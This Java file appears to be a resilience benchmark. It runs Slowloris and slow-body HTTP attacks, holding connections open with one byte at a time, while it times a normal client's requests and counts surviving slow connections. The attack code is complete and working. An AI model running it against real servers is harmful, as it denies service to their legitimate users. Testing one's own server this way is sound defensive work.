package dev.wharf.benchmarks.hostile;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

/**
 * Slowloris and its body-sending cousin: connections that each send one byte every few seconds,
 * of a request head or of a promised body, while one normal client keeps asking {@code GET /} and
 * times every answer. Prints the normal client's median and p99 latency during the attack, and how
 * many slow connections the server still holds at the end.
 */
final class SlowClients {

    private SlowClients() {}

    /**
     * @param trickleMillis how long each slow connection waits between bytes: longer than the read
     *                      timeout, a byte a minute against a 60 s timeout
     */
    static void attack(String host, int port, long seconds, int perKind, long trickleMillis) throws Exception {
        warmUp(host, port);
        List<Socket> slowBodies = new ArrayList<>();
        List<Socket> slowHeads = new ArrayList<>();
        for (int i = 0; i < perKind; i++) {
            Socket body = open(host, port);
            body.getOutputStream()
                    .write(("POST /echo HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 1000000\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            slowBodies.add(body);
            Socket head = open(host, port);
            head.getOutputStream().write("GET / HTTP/1.1\r\n".getBytes(StandardCharsets.US_ASCII));
            slowHeads.add(head);
        }
        List<Long> latencies = Collections.synchronizedList(new ArrayList<>());
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        Thread normal = Thread.ofPlatform().start(() -> measure(host, port, end, latencies));
        while (System.nanoTime() < end) {
            trickle(slowBodies, (byte) 'x');
            trickle(slowHeads, (byte) 'a');
            Thread.sleep(Math.min(trickleMillis, Math.max(1, (end - System.nanoTime()) / 1_000_000)));
        }
        normal.join();
        long bodiesOpen = slowBodies.stream().filter(HostileClient::stillOpen).count();
        long headsOpen = slowHeads.stream().filter(HostileClient::stillOpen).count();
        List<Long> sorted = HostileClient.sortedCopy(latencies);
        System.out.printf(
                "requests=%d p50_ms=%.2f p99_ms=%.2f slow_bodies_open=%d slow_heads_open=%d of=%d%n",
                sorted.size(),
                HostileClient.percentile(sorted, 50),
                HostileClient.percentile(sorted, 99),
                bodiesOpen,
                headsOpen,
                perKind);
        for (Socket socket : slowBodies) {
            socket.close();
        }
        for (Socket socket : slowHeads) {
            socket.close();
        }
        System.exit(0);
    }

    /** A thousand requests first, so the latency measured is the server's, not its JIT's. */
    private static void warmUp(String host, int port) throws IOException {
        byte[] request = ("GET / HTTP/1.1\r\nHost: " + host + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
        try (Socket socket = open(host, port)) {
            for (int i = 0; i < 1_000; i++) {
                socket.getOutputStream().write(request);
                readResponse(socket.getInputStream());
            }
        }
    }

    private static Socket open(String host, int port) throws IOException {
        Socket socket = new Socket();
        socket.connect(new InetSocketAddress(host, port), 5_000);
        return socket;
    }

    /** One more byte on each connection the server has not closed yet. */
    private static void trickle(List<Socket> sockets, byte b) {
        for (Socket socket : sockets) {
            if (!socket.isClosed()) {
                try {
                    socket.getOutputStream().write(b);
                } catch (IOException e) {
                    try {
                        socket.close();
                    } catch (IOException ignored) {
                        // already gone
                    }
                }
            }
        }
    }

    /** Sequential {@code GET /} on a kept-alive connection, ten a second, each timed. */
    private static void measure(String host, int port, long end, List<Long> latencies) {
        byte[] request = ("GET / HTTP/1.1\r\nHost: " + host + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
        Socket socket = null;
        while (System.nanoTime() < end) {
            try {
                if (socket == null) {
                    socket = open(host, port);
                    socket.setSoTimeout(10_000);
                }
                long start = System.nanoTime();
                OutputStream out = socket.getOutputStream();
                out.write(request);
                readResponse(socket.getInputStream());
                latencies.add(System.nanoTime() - start);
                Thread.sleep(100);
            } catch (IOException e) {
                socket = null; // kept-alive connection closed by the server: open another
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    /** Reads one response with a Content-Length body. */
    private static void readResponse(InputStream in) throws IOException {
        StringBuilder head = new StringBuilder();
        int c;
        while ((c = in.read()) >= 0) {
            head.append((char) c);
            if (head.length() >= 4 && head.substring(head.length() - 4).equals("\r\n\r\n")) {
                break;
            }
        }
        if (c < 0) {
            throw new IOException("closed");
        }
        int length = 0;
        for (String line : head.toString().split("\r\n")) {
            if (line.toLowerCase().startsWith("content-length:")) {
                length = Integer.parseInt(line.substring(15).strip());
            }
        }
        if (in.readNBytes(length).length < length) {
            throw new IOException("closed");
        }
    }
}
